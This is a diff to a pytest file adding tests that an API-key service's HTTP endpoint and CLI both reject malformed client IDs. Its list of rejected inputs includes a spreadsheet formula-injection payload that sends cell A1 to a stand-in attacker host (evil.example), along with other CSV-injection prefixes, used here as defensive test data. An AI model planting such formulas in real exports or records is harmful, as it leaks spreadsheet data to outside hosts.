@@ -3,12 +3,21 @@
 from __future__ import annotations
 
 import pytest
+from click.testing import CliRunner
 from fastapi.testclient import TestClient
 from sqlalchemy import select
 
-from app.auth.models import ApiKey
+from app.auth import service as keys
+from app.auth.models import ApiKey, Role
+from app.cli import keys as keys_command
+from app.core.config import Settings, get_settings
 from app.core.db import session_scope
+from app.core.errors import Unprocessable
 from tests.api.conftest import KeyFactory
+
+FORMULA = '=HYPERLINK("https://evil.example/?leak="&A1,"Open")'
+BAD_CLIENT_IDS = [FORMULA, "+1", "-1", "@SUM(A1)", "acme\n", "acme bank", "", "a" * 129,
+                  "\uff1dcmd"]
 
 
 def test_requests_without_a_key_are_401_problems(client: TestClient) -> None:
@@ -82,3 +91,37 @@ def test_admins_create_and_revoke_keys_over_the_api(client: TestClient,
     assert "key" not in client.get("/v1/api-keys", headers=admin).json()[0]
     client.post(f"/v1/api-keys/{created.json()['id']}/revoke", headers=admin)
     assert client.get("/v1/deletion-requests", headers=new_key).status_code == 401
+
+
+def test_the_api_and_keys_create_refuse_the_same_client_ids(client: TestClient,
+                                                             make_key: KeyFactory) -> None:
+    admin = make_key("admin", "lethe")
+    for client_id in BAD_CLIENT_IDS:
+        response = client.post("/v1/api-keys", json={"role": "requester",
+                                                     "client_id": client_id}, headers=admin)
+        assert response.status_code == 422, client_id
+        sessionmaker = client.app.state.sessionmaker  # type: ignore[attr-defined]
+        with session_scope(sessionmaker) as db_session, pytest.raises(
+                Unprocessable, match="Invalid client id"):
+            keys.create(db_session, role=Role.requester, client_id=client_id)
+    with session_scope(client.app.state.sessionmaker) as db_session:  # type: ignore[attr-defined]
+        assert [k.client_id for k in keys.list_all(db_session)] == ["lethe"]
+
+
+def test_lethe_keys_create_refuses_what_the_api_refuses(
+        client: TestClient, settings: Settings, monkeypatch: pytest.MonkeyPatch) -> None:
+    monkeypatch.setenv("LETHE_DATA_DIR", str(settings.data_dir))
+    monkeypatch.setenv("LETHE_DATABASE_URL", settings.resolved_database_url)
+    get_settings.cache_clear()
+    try:
+        refused = CliRunner().invoke(keys_command, ["create", "--role", "requester",
+                                                    "--client", FORMULA])
+        assert refused.exit_code == 2 and "Invalid client id" in refused.output
+        created = CliRunner().invoke(keys_command, ["create", "--role", "requester",
+                                                    "--client", "acme-bank"])
+        assert created.exit_code == 0, created.output
+    finally:
+        get_settings.cache_clear()
+    with session_scope(client.app.state.sessionmaker) as db_session:  # type: ignore[attr-defined]
+        assert [k.client_id for k in keys.list_all(db_session)] == ["acme-bank"]
+
